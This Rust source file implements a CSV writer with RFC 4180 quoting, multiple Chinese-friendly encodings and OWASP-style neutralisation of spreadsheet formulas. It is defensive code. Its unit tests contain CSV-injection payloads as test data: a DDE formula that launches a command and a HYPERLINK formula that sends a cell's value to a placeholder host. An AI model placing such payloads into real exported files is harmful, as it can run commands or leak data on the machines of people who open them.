//! The one CSV writer: RFC 4180 quoting and CRLF line ends, and formula neutralisation as
//! OWASP recommends, so that a report's agency or a file name such as `=HYPERLINK(…)` stays
//! text when the CSV is opened in Excel, WPS or LibreOffice. Every CSV nianbao writes goes
//! through [`write_record`].

use std::borrow::Cow;
use std::io::{self, Write};

/// Characters that make a spreadsheet read a field as a formula (OWASP "CSV injection").
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A field made safe to open in a spreadsheet: a field starting with `= + - @`, tab or carriage
/// return gets a leading `'`, unless the whole field is a plain number (`-3`, `+1.5`), which
/// stays numeric.
pub fn neutralise(field: &str) -> Cow<'_, str> {
    if field.starts_with(FORMULA_START) && !is_number(field) {
        Cow::Owned(format!("'{field}"))
    } else {
        Cow::Borrowed(field)
    }
}

/// A plain decimal number: optional sign, digits with at most one point, optional exponent.
fn is_number(s: &str) -> bool {
    let s = s.strip_prefix(['+', '-']).unwrap_or(s);
    let (mantissa, exponent) = match s.find(['e', 'E']) {
        Some(i) => (&s[..i], Some(&s[i + 1..])),
        None => (s, None),
    };
    let mut parts = mantissa.splitn(2, '.');
    let int = parts.next().unwrap_or("");
    let frac = parts.next();
    let digits = |x: &str| x.bytes().all(|b| b.is_ascii_digit());
    let mantissa_ok = digits(int)
        && frac.is_none_or(digits)
        && !(int.is_empty() && frac.is_none_or(str::is_empty));
    let exponent_ok = exponent.is_none_or(|e| {
        let e = e.strip_prefix(['+', '-']).unwrap_or(e);
        !e.is_empty() && digits(e)
    });
    mantissa_ok && exponent_ok
}

/// Appends one record: fields neutralised, quoted where RFC 4180 requires (a comma, quote, CR or
/// LF inside), separated by commas, ended by CRLF.
pub fn write_record<I, S>(out: &mut String, fields: I)
where
    I: IntoIterator<Item = S>,
    S: AsRef<str>,
{
    for (i, f) in fields.into_iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        let f = neutralise(f.as_ref());
        if f.contains([',', '"', '\n', '\r']) {
            out.push('"');
            out.push_str(&f.replace('"', "\"\""));
            out.push('"');
        } else {
            out.push_str(&f);
        }
    }
    out.push_str("\r\n");
}

/// The character encoding of a CSV file.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum Encoding {
    /// UTF-8 without a byte order mark (for scripts and databases).
    Utf8,
    /// UTF-8 with a byte order mark (the default): Excel on Chinese Windows reads it as UTF-8;
    /// without the mark it reads the file as GBK and garbles the agency names.
    #[default]
    Utf8Bom,
    /// GB 18030 (for older Chinese tools that read only the national encoding).
    Gb18030,
}

/// The CSV text as bytes in `encoding`. GB 18030 covers every Unicode character, so nothing is
/// lost in any of the three.
///
/// ```
/// use nianbao::csv::{encode, Encoding};
/// assert_eq!(encode("机关\r\n", Encoding::Utf8Bom)[..3], [0xEF, 0xBB, 0xBF]);
/// assert_eq!(encode("机关", Encoding::Gb18030), [0xBB, 0xFA, 0xB9, 0xD8]);
/// assert_eq!(encode("a", Encoding::Utf8), b"a");
/// ```
pub fn encode(text: &str, encoding: Encoding) -> Vec<u8> {
    match encoding {
        Encoding::Utf8 => text.as_bytes().to_vec(),
        Encoding::Utf8Bom => {
            let mut out = Vec::with_capacity(text.len() + 3);
            out.extend_from_slice(b"\xEF\xBB\xBF");
            out.extend_from_slice(text.as_bytes());
            out
        }
        Encoding::Gb18030 => encoding_rs::GB18030.encode(text).0.into_owned(),
    }
}

/// A CSV written record by record to `W` in an [`Encoding`] (the byte order mark first for
/// [`Encoding::Utf8Bom`]): a long CSV streams to its file and is never held whole in memory.
/// The bytes are those of [`write_record`] over every record then [`encode`] (GB 18030 encodes
/// each character on its own, so encoding record by record gives the same bytes).
///
/// ```
/// use nianbao::csv::{encode, write_record, Encoding, Writer};
/// let mut text = String::new();
/// write_record(&mut text, ["机关", "=1"]);
/// write_record(&mut text, ["a,b", "-3"]);
/// for enc in [Encoding::Utf8, Encoding::Utf8Bom, Encoding::Gb18030] {
///     let mut w = Writer::new(Vec::new(), enc).unwrap();
///     w.record(["机关", "=1"]).unwrap();
///     w.record(["a,b", "-3"]).unwrap();
///     assert_eq!(w.finish().unwrap(), encode(&text, enc));
/// }
/// ```
pub struct Writer<W: Write> {
    out: W,
    encoding: Encoding,
    line: String,
}

impl<W: Write> Writer<W> {
    /// A writer to `out` (the byte order mark written at once for [`Encoding::Utf8Bom`]).
    ///
    /// # Errors
    /// The error of `out`.
    pub fn new(mut out: W, encoding: Encoding) -> io::Result<Writer<W>> {
        if encoding == Encoding::Utf8Bom {
            out.write_all(b"\xEF\xBB\xBF")?;
        }
        Ok(Writer {
            out,
            encoding,
            line: String::new(),
        })
    }

    /// Writes one record (as [`write_record`]).
    ///
    /// # Errors
    /// The error of the underlying writer.
    pub fn record<I, S>(&mut self, fields: I) -> io::Result<()>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        self.line.clear();
        write_record(&mut self.line, fields);
        match self.encoding {
            Encoding::Utf8 | Encoding::Utf8Bom => self.out.write_all(self.line.as_bytes()),
            Encoding::Gb18030 => self
                .out
                .write_all(&encoding_rs::GB18030.encode(&self.line).0),
        }
    }

    /// Flushes and gives back the underlying writer.
    ///
    /// # Errors
    /// The error of the flush.
    pub fn finish(mut self) -> io::Result<W> {
        self.out.flush()?;
        Ok(self.out)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_formula_start_is_neutralised_and_numbers_are_kept() {
        for f in [
            "=cmd|' /C calc'!A0",
            "+A1",
            "-",
            "@x",
            "\tx",
            "\rx",
            "=HYPERLINK(\"http://x?\"&A1)",
        ] {
            assert!(neutralise(f).starts_with('\''), "{f:?}");
        }
        for n in ["-3", "+7", "-0.5", "1e5", "-2.5E-3", "12.50", "0"] {
            assert_eq!(neutralise(n), n);
        }
        for not in ["-.", "-e5", "-1e", "--1", "-1.2.3", "-1,2", "- 1"] {
            assert!(neutralise(not).starts_with('\''), "{not:?}");
        }
        let mut out = String::new();
        write_record(&mut out, ["\r=1", "x\ny"]);
        assert_eq!(out, "\"'\r=1\",\"x\ny\"\r\n");
    }

    /// The documented behaviour, by example.
    #[test]
    fn examples() {
        assert_eq!(neutralise("=1+2"), "'=1+2");
        assert_eq!(neutralise("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(neutralise("-3"), "-3");
        assert_eq!(neutralise("-1+2"), "'-1+2");
        assert_eq!(neutralise("示例县"), "示例县");
        let mut out = String::new();
        write_record(&mut out, ["a,b", "c\"d", "=1", "-3"]);
        assert_eq!(out, "\"a,b\",\"c\"\"d\",'=1,-3\r\n");
    }
}
